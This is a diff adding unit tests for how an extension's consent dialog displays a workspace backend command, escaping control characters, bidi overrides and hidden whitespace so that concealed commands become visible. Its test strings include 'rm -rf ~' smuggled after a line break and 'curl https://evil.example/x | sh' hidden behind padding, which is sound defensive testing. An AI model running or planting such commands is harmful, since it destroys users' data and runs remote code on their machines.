@@ -1,5 +1,6 @@
 import * as assert from 'node:assert/strict';
-import { BackendConsent, type AnswerStore } from '../../../src/extension/backendConsent';
+import { printable } from '../../../src/core/report';
+import { BackendConsent, visibleCommand, type AnswerStore } from '../../../src/extension/backendConsent';
 
 /** A Memento in memory. */
 function memento(): AnswerStore & { data: Map<string, unknown> } {
@@ -62,5 +63,25 @@ describe('consent to a workspace\'s backend command', () => {
     answer('run');
     await again;
     assert.equal(asked, 2);
+  });
+});
+
+describe('the backend command as the consent dialog shows it', () => {
+  const escape = (t: string) => printable(t);
+
+  it('makes control characters, line breaks and bidi overrides visible', () => {
+    assert.equal(visibleCommand('php -S 127.0.0.1:{port}\nrm -rf ~\r\u202e', escape), 'php -S 127.0.0.1:{port}\\x0arm -rf ~\\x0d\\u202e');
+    assert.equal(visibleCommand('a\u001b[8mhidden\u001b[0m', escape), 'a\\x1b[8mhidden\\x1b[0m');
+  });
+
+  it('shows a long command whole, in lines no dialog cuts, and counts a run of spaces instead of showing it', () => {
+    const hidden = `php -S 127.0.0.1:{port}${' '.repeat(300)}; curl https://evil.example/x | sh`;
+    const shown = visibleCommand(hidden, escape);
+    assert.match(shown, /php -S 127\.0\.0\.1:\{port\} \[300 spaces\] ; curl https:\/\/evil\.example\/x \| sh/);
+    const long = `node -e "${'x'.repeat(500)}" && curl https://evil.example | sh`;
+    const lines = visibleCommand(long, escape).split('\n');
+    assert.ok(lines.every((l) => l.length <= 80), 'no line longer than 80');
+    assert.equal(lines.at(-1), `(${long.length} characters)`);
+    assert.equal(lines.slice(0, -1).join('').replace(/ /g, ''), long.replace(/ /g, ''), 'every character is there');
   });
 });
